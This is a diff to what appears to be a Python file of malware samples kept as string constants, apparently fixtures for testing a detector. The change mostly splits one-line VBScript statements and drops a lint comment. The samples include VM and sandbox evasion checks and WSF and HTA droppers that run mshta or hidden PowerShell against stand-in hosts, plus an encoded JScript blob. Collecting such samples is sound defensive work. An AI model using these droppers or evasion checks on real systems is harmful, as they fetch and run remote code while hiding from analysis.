@@ -73,7 +73,8 @@ On Error Resume Next
 Set w = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2")
 For Each b In w.ExecQuery("Select * from Win32_BIOS") : If InStr(b.SerialNumber, "VMware") Then WScript.Quit
 Next
-For Each c In w.ExecQuery("Select * from Win32_ComputerSystem") : If c.TotalPhysicalMemory < 2000000000 Then WScript.Quit
+For Each c In w.ExecQuery("Select * from Win32_ComputerSystem")
+  If c.TotalPhysicalMemory < 2000000000 Then WScript.Quit
 Next
 For Each d In w.ExecQuery("Select * from Win32_DiskDrive") : If InStr(LCase(d.Model), "vbox") > 0 Then WScript.Quit
 Next
@@ -95,9 +96,11 @@ WScript.Echo Address
 ]]></script><script language="JScript">new ActiveXObject("WScript.Shell").Run("mshta http://wsf.example/y");</script></job>
 """
 HTA = """<html><head><HTA:APPLICATION ID="a" WINDOWSTATE="minimize"/></head><body>
-<script language="VBScript">Sub Window_onload : CreateObject("WScript.Shell").Run "powershell -nop -w hidden iwr http://hta.example/z", 0 : End Sub</script>
+<script language="VBScript">Sub Window_onload
+CreateObject("WScript.Shell").Run "powershell -nop -w hidden iwr http://hta.example/z", 0
+End Sub</script>
 <script>document.write("<script>location.href = 'http://next.example/';</" + "script>");</script></body></html>
-"""  # noqa: E501 - one line of the sample
+"""
 JSE = "#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"
 
 
